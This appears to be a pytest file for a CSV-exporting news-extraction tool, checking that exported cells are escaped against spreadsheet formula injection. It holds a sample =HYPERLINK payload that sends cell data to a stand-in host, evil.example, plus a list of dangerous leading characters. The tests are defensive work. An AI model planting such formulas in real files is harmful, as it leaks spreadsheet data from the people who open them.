"""No CSV Frontline writes can run a spreadsheet formula (OWASP "CSV Injection")."""

from __future__ import annotations

import csv

from frontline import main
from gazetteer.places import PLACES_CSV

ARABIC = "وذكرت مصادر محلية أن قوات سوريا الديمقراطية سيطرت أمس على بلدة الشعفة شرقي دير الزور."
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _cells(path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_events_csv(tmp_path):
    # Before: an outlet of =HYPERLINK(...) went into the `source` column as a live formula.
    (tmp_path / "a.txt").write_text(ARABIC, encoding="utf-8")
    (tmp_path / "m.csv").write_text(f'file,outlet,published,url\na.txt,"{FORMULA.replace(chr(34), 2 * chr(34))}",'
                                    "2018-10-12,\n", encoding="utf-8")
    claims = tmp_path / "c.jsonl"
    assert main(["extract", str(tmp_path / "a.txt"), "--manifest", str(tmp_path / "m.csv"), "-o", str(claims)]) == 0
    out = tmp_path / "e.csv"
    assert main(["events", str(claims), "-o", str(out)]) == 0
    cells = _cells(out)
    assert any(c.startswith("'" + FORMULA) for c in cells)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_gazetteer_export_csv(tmp_path):
    # Before: a note starting with "=" or "@" was exported as is.
    rows = PLACES_CSV.read_text(encoding="utf-8").splitlines()
    rows[1] = rows[1].rsplit(",", 1)[0] + ",@SUM(1+1)"
    places = tmp_path / "places.csv"
    places.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "export.csv"
    assert main(["gazetteer", "--places", str(places), "export", "--format", "csv", "-o", str(out)]) == 0
    cells = _cells(out)
    assert "'@SUM(1+1)" in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
